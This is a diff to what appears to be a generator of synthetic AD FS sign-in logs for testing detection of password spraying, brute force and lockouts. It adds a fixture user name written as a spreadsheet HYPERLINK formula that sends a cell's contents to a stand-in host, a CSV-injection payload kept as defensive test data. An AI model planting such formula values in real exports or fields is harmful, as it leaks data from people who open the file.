@@ -13,7 +13,8 @@ Scenarios (see ../shared/reference/adfs-events.md for the event layouts):
     a password spray from one public IP over 8 users (one unknown user), a brute force that ends in extranet
     lockout (516 + 1210, no 4625 any more), an AD lockout (4625 0xC0000234), a stale service credential typed as
     DOMAIN\\user from a private IP every 10 minutes, legacy auth proxied by Exchange Online (zero activity ID,
-    attacker IPv6 in x-ms-forwarded-client-ip), hyphenated user names, one success (412) that is not an attempt.
+    attacker IPv6 in x-ms-forwarded-client-ip), hyphenated user names, a user name typed as a spreadsheet formula,
+    one success (412) that is not an attempt.
   fabrikam, AD FS 2012 R2 (ADFS-OLD), French: 411 with and without the client IP field (hotfix 3134222 missing),
     IP then only in 501; a 411 alone whose French text says the account is locked.
   AD FS 2016 in Japanese (ADFS-JP): 1203 + 411 + 4625, and a 411 alone with the Japanese message.
@@ -260,7 +261,7 @@ class Farm:
             data.append(ip)
         log.adfs(t + ms, 411, data)
         log.adfs(t + 2 * ms, 501, claims_501(instance, [(RC + 'x-ms-client-ip', ip)]))
-        self.expect(log, t, user, ip, outcome)
+        self.expect(log, t if with_4625 else t + ms, user, ip, outcome)  # the request's first event
 
 
 def build(out):
@@ -293,6 +294,8 @@ def build(out):
     for i in range(3):
         farm.attempt_2016(a1, BASE + 130 * minute + i * minute, 'carol@contoso.com', '40.92.0.10', exo=True,
                           forwarded='2001:db8::1234')
+    # a user name typed to be run as a spreadsheet formula
+    farm.attempt_2016(a2, BASE + 135 * minute, '=HYPERLINK("http://x.example/?"&A1)@contoso.com', '203.0.113.66')
     # a success after the spray (412): not an attempt
     a1.adfs(BASE + 140 * minute, 412, [str(uuid.uuid4()), str(uuid.uuid4()), USERNAME_TOKEN,
                                        'urn:federation:MicrosoftOnline'], failure=False)
